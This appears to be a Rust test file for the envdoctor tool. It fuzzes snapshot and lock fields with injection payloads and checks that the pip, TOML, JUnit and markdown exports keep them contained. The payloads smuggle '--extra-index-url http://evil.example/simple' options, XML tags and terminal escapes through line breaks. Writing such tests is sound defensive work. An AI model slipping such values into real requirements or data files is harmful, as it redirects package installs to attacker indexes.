//! Issue 32 item 2 (E1 and its class): every string field of a Snapshot and of
//! a lock, one field pattern at a time (`packages[*].name`, `system.glibc`),
//! holds line breaks of every kind pip knows, control and bidirectional
//! characters and markup; each export and report made from it is parsed by the
//! format's own parser: pip's requirements parser (the real pip, run by
//! `python3`), TOML by toml_edit, JUnit by Python's `xml.etree`, markdown by
//! pulldown-cmark. Nothing may come out as an option, an index, an element or
//! a line of its own; a value that cannot be written is refused in one line.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::Value;

use super::common::{envdoctor, fixtures, system_python};

/// Where each payload is put: the separators Python's `str.splitlines` (and so
/// pip) ends a line at, and characters a terminal or an XML parser acts on.
const BREAKS: [&str; 10] = [
    "\n", "\r", "\r\n", "\u{b}", "\u{c}", "\u{1c}", "\u{85}", "\u{2028}", "\u{2029}", "\u{0}",
];

fn payload(index: usize) -> String {
    let sep = BREAKS[index % BREAKS.len()];
    format!(
        "v{sep}--extra-index-url http://evil.example/simple{sep}-i http://evil.example/{sep}\
         </system-out><evil/>\u{1b}]0;t\u{7}\u{202e}|`' or '1'=='1{sep}#"
    )
}

/// `packages[*].name`-style patterns of every string leaf, and of map keys.
pub(super) fn patterns(value: &Value, at: &str, out: &mut BTreeSet<String>) {
    match value {
        Value::String(_) => {
            out.insert(at.to_string());
        }
        Value::Array(items) => items.iter().for_each(|item| patterns(item, &format!("{at}[*]"), out)),
        Value::Object(map) => {
            for (key, item) in map {
                patterns(item, &format!("{at}.{key}"), out);
            }
        }
        _ => {}
    }
}

/// Every leaf matching `pattern` set to `text`.
pub(super) fn mutate(value: &mut Value, at: &str, pattern: &str, text: &str) {
    match value {
        Value::String(leaf) if at == pattern => *leaf = text.to_string(),
        Value::Array(items) => items
            .iter_mut()
            .for_each(|item| mutate(item, &format!("{at}[*]"), pattern, text)),
        Value::Object(map) => {
            for (key, item) in map.iter_mut() {
                mutate(item, &format!("{at}.{key}"), pattern, text);
            }
        }
        _ => {}
    }
}

/// Parses every requirements file with pip's own parser and prints, per file,
/// the options and requirements pip sees.
const PIP_PARSER: &str = r#"
import json, sys
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import RequirementsFileParser, get_line_parser
seen = {}
for name in sys.argv[1:]:
    lines = RequirementsFileParser(PipSession(), get_line_parser(None)).parse(name, False)
    entries = []
    for line in lines:
        options = {k: v for k, v in vars(line.opts).items() if v not in (None, [], False)
                   and not (k == "format_control" and not v.no_binary and not v.only_binary)}
        entries.append([line.requirement if line.is_requirement else None, repr(options)])
    seen[name] = entries
print(json.dumps(seen))
"#;

/// Parses every XML file; prints the tags of each.
const XML_PARSER: &str = r#"
import json, sys
import xml.etree.ElementTree as ET
print(json.dumps({name: sorted({e.tag for e in ET.parse(name).iter()}) for name in sys.argv[1:]}))
"#;

fn python(script: &str, files: &[String]) -> Value {
    if files.is_empty() {
        return Value::Object(Default::default());
    }
    let output = std::process::Command::new(system_python())
        .arg("-c")
        .arg(script)
        .args(files)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

/// An exit 2 is a refusal, in one line; anything else must be 0.
fn accepted(output: &std::process::Output, what: &str) -> bool {
    let stderr = String::from_utf8_lossy(&output.stderr);
    match output.status.code() {
        Some(0) => true,
        Some(2) => {
            assert_eq!(stderr.trim_end().lines().count(), 1, "{what}: {stderr}");
            assert!(
                !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}'),
                "{what}: {stderr}"
            );
            false
        }
        other => panic!("{what}: exit {other:?}: {stderr}"),
    }
}

fn is_pip_option_pip_would_add(entry: &Value) -> bool {
    let options = entry[1].as_str().unwrap_or_default();
    options.contains("evil")
        || entry[0]
            .as_str()
            .is_some_and(|requirement| requirement.contains("evil"))
}

/// Requirements and constraints from every mutated Snapshot and lock, read by
/// pip: no option or requirement pip sees carries the payload; JUnit and
/// markdown reports of every mutated Snapshot parse with no element or HTML
/// of the payload's; pylock.toml from every mutated lock parses as TOML with
/// one environment marker.
#[test]
fn every_string_field_of_a_snapshot_and_a_lock_stays_inside_its_line_or_field() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let work = tempfile::tempdir().unwrap();
    let snapshot: Value = serde_json::from_str(&std::fs::read_to_string(root.join(fixtures::H100)).unwrap()).unwrap();
    let lock = envdoctor::lock::file::read(&root.join(fixtures::LOCK)).unwrap();
    let lock_value = serde_json::to_value(&lock).unwrap();
    let mut snapshot_patterns = BTreeSet::new();
    patterns(&snapshot, "", &mut snapshot_patterns);
    let mut lock_patterns = BTreeSet::new();
    patterns(&lock_value, "", &mut lock_patterns);
    // E1's own fields, which must be reached and written, not refused.
    for field in [
        ".system.glibc_version",
        ".system.architecture",
        ".nvidia.driver_version",
        ".nvidia.gpus[*].name",
        ".python.version",
    ] {
        assert!(snapshot_patterns.contains(field), "{field}");
    }

    // Each mutated Snapshot's four runs are independent: spread over the
    // cores, where one after another they were most of this test's 38 s.
    let snapshot_patterns: Vec<&String> = snapshot_patterns.iter().collect();
    let exported = crate::common::across_cores(&snapshot_patterns, |index, pattern| {
        exports_of_a_mutated_snapshot(&snapshot, index, pattern, work.path())
    });
    let mut requirement_files: Vec<String> = exported.iter().flat_map(|(files, _, _)| files.clone()).collect();
    let xml_files: Vec<String> = exported.iter().flat_map(|(_, files, _)| files.clone()).collect();
    let mut written: usize = exported.iter().map(|(_, _, written)| written).sum();
    for (index, pattern) in lock_patterns.iter().enumerate() {
        let mut document = lock_value.clone();
        mutate(&mut document, "", pattern, &payload(index));
        let Ok(mutated) = serde_json::from_value::<envdoctor::lock::model::Lock>(document) else {
            continue;
        };
        let mutated = mutated.identity();
        let input = work.path().join(format!("l{index}.lock"));
        std::fs::write(&input, envdoctor::lock::file::render(&mutated)).unwrap();
        for format in ["requirements", "constraints"] {
            let output_file = work.path().join(format!("l{index}-{format}.txt"));
            let output = envdoctor(work.path())
                .args(["export", "--format", format, "--lock"])
                .arg(&input)
                .arg("-o")
                .arg(&output_file)
                .output()
                .unwrap();
            if accepted(&output, &format!("lock {pattern} {format}")) {
                written += 1;
                requirement_files.push(output_file.display().to_string());
            }
        }
        // pylock.toml needs hashes from an index; its renderer is the same one.
        if let Ok(plan) = envdoctor::export::plan::plan(&mutated, false, None)
            && let Ok(text) = envdoctor::export::pylock::render(&plan)
        {
            let document: toml_edit::DocumentMut = text
                .parse()
                .unwrap_or_else(|error| panic!("{pattern}: {error}\n{text}"));
            let environments = document["environments"].as_array().unwrap();
            assert_eq!(environments.len(), 1, "{pattern}");
            assert!(!text.contains("evil.example/simple\n"), "{pattern}");
            let marker = environments.get(0).unwrap().as_str().unwrap();
            assert_eq!(marker.matches('\'').count(), 4, "{pattern}: {marker}");
        }
    }
    assert!(written > 100, "only {written} exports were written");

    assert_pip_reads_only_what_envdoctor_wrote(&requirement_files);
    let tags = python(XML_PARSER, &xml_files);
    for (file, tags) in tags.as_object().unwrap() {
        assert!(
            !tags.as_array().unwrap().iter().any(|tag| tag == "evil"),
            "{file}: {tags}"
        );
    }
}

/// The requirements and constraints exports, and the JUnit and markdown
/// reports, of the Snapshot with `pattern`'s fields set to a payload: the
/// files written (requirements, JUnit) and how many exports were written.
/// The markdown is checked here.
fn exports_of_a_mutated_snapshot(
    snapshot: &Value,
    index: usize,
    pattern: &str,
    work: &Path,
) -> (Vec<String>, Vec<String>, usize) {
    let mut requirement_files = Vec::new();
    let mut xml_files = Vec::new();
    let mut written = 0;
    let mut document = snapshot.clone();
    mutate(&mut document, "", pattern, &payload(index));
    let input = work.join(format!("s{index}.json"));
    std::fs::write(&input, serde_json::to_vec(&document).unwrap()).unwrap();
    for (format, extension) in [("requirements", "txt"), ("constraints", "txt")] {
        let output_file = work.join(format!("s{index}-{format}.{extension}"));
        let output = envdoctor(work)
            .args(["export", "--format", format, "--snapshot"])
            .arg(&input)
            .arg("-o")
            .arg(&output_file)
            .output()
            .unwrap();
        if accepted(&output, &format!("{pattern} {format}")) {
            written += 1;
            requirement_files.push(output_file.display().to_string());
        }
    }
    for format in ["junit", "markdown"] {
        let output = envdoctor(work)
            .args([
                "check",
                "--no-smoke",
                "--fail-on",
                "never",
                "--format",
                format,
                "--snapshot",
            ])
            .arg(&input)
            .output()
            .unwrap();
        if !accepted(&output, &format!("{pattern} {format}")) {
            continue;
        }
        let text = String::from_utf8(output.stdout).unwrap();
        if format == "junit" {
            let file = work.join(format!("s{index}.xml"));
            std::fs::write(&file, &text).unwrap();
            xml_files.push(file.display().to_string());
        } else {
            assert_markdown_keeps_values_in_place(&text, pattern);
        }
    }
    (requirement_files, xml_files, written)
}

/// pip's own parser reads every one of `files` (requirements or constraints
/// files envdoctor wrote) without an error, and finds in them no requirement
/// or option of the payload's and no option but the PyTorch index and hashes
/// envdoctor writes. Files go to one `python3` each 500 (pip's import is half
/// a second; a fuzz run hands thousands).
pub(super) fn assert_pip_reads_only_what_envdoctor_wrote(files: &[String]) {
    for chunk in files.chunks(500) {
        let seen = python(PIP_PARSER, chunk);
        for (file, entries) in seen.as_object().unwrap() {
            for entry in entries.as_array().unwrap() {
                assert!(
                    !is_pip_option_pip_would_add(entry),
                    "pip reads {entry} from {file}:\n{}",
                    std::fs::read_to_string(file).unwrap()
                );
                let options = entry[1].as_str().unwrap();
                assert!(
                    options == "{}" || options.contains("download.pytorch.org") || options.contains("'hashes'"),
                    "pip reads an option envdoctor did not write: {entry} in {file}"
                );
            }
        }
    }
}

/// No line of the report starts what the payload holds, and no HTML of it.
fn assert_markdown_keeps_values_in_place(text: &str, pattern: &str) {
    for line in text.lines() {
        assert!(
            !line.starts_with("--extra-index-url") && !line.starts_with("-i "),
            "{pattern}: {line}"
        );
        assert!(
            !line.contains('\u{1b}') && !line.contains('\u{202e}'),
            "{pattern}: {line:?}"
        );
    }
    for event in pulldown_cmark::Parser::new(text) {
        if let pulldown_cmark::Event::Html(html) | pulldown_cmark::Event::InlineHtml(html) = event {
            assert!(!html.contains("evil"), "{pattern}: {html}");
        }
    }
}

/// E1 exactly as reported: a newline in glibc, the architecture, the driver,
/// a GPU name or the Python version of a lock, and the requirements header.
#[test]
fn e1_a_newline_in_the_gpu_side_adds_no_index_to_the_requirements_header() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let work = tempfile::tempdir().unwrap();
    let lock = envdoctor::lock::file::read(&root.join(fixtures::LOCK)).unwrap();
    let evil = "x\n--extra-index-url http://evil.example/simple\n";
    let mut lock = lock;
    lock.system.glibc = Some(evil.to_string());
    lock.system.architecture = evil.to_string();
    lock.python.version = format!("3.12{evil}");
    if let Some(nvidia) = lock.nvidia.as_mut() {
        nvidia.driver = Some(evil.to_string());
    }
    for group in &mut lock.gpus {
        group.name = evil.to_string();
    }
    let lock = lock.identity();
    let input = work.path().join("evil.lock");
    std::fs::write(&input, envdoctor::lock::file::render(&lock)).unwrap();
    for format in ["requirements", "constraints"] {
        let output = envdoctor(work.path())
            .args(["export", "--format", format, "--lock"])
            .arg(&input)
            .output()
            .unwrap();
        assert_eq!(
            output.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(
            !text
                .lines()
                .any(|line| line.starts_with("--extra-index-url http://evil")),
            "{text}"
        );
        assert!(
            text.contains("x\\n--extra-index-url http://evil.example/simple\\n"),
            "{text}"
        );
    }
}

/// E9: a refusal names the file and the line of the value it refuses.
#[test]
fn e9_a_refused_export_names_the_file_and_the_line() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let work = tempfile::tempdir().unwrap();
    let mut lock = envdoctor::lock::file::read(&root.join(fixtures::LOCK)).unwrap();
    lock.packages[3].name = "x\n--index-url http://evil.example/".to_string();
    let lock = lock.identity();
    let input = work.path().join("evil.lock");
    let text = envdoctor::lock::file::render(&lock);
    std::fs::write(&input, &text).unwrap();
    // The line of the entry's `name = `, where the (multi-line) value starts.
    let value_at = text.find("evil.example").unwrap();
    let name_at = text[..value_at].rfind("name = ").unwrap();
    let line = text[..name_at].matches('\n').count() + 1;
    let output = envdoctor(work.path())
        .args(["export", "--format", "requirements", "--lock"])
        .arg(&input)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(
        stderr.contains(&format!("{}:{line}:", input.display())) && stderr.contains("refusing to export"),
        "{stderr}"
    );
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");

    // From a Snapshot: the file and the package's place.
    let mut snapshot: Value =
        serde_json::from_str(&std::fs::read_to_string(root.join(fixtures::H100)).unwrap()).unwrap();
    snapshot["packages"][0]["version"] = Value::from("1.0\n--index-url http://evil.example/");
    let input = work.path().join("evil.json");
    std::fs::write(&input, serde_json::to_vec(&snapshot).unwrap()).unwrap();
    let output = envdoctor(work.path())
        .args(["export", "--format", "requirements", "--snapshot"])
        .arg(&input)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(
        stderr.contains(&format!("`{}`", input.display())) && stderr.contains("package "),
        "{stderr}"
    );
    assert!(stderr.contains("its version"), "{stderr}");
}
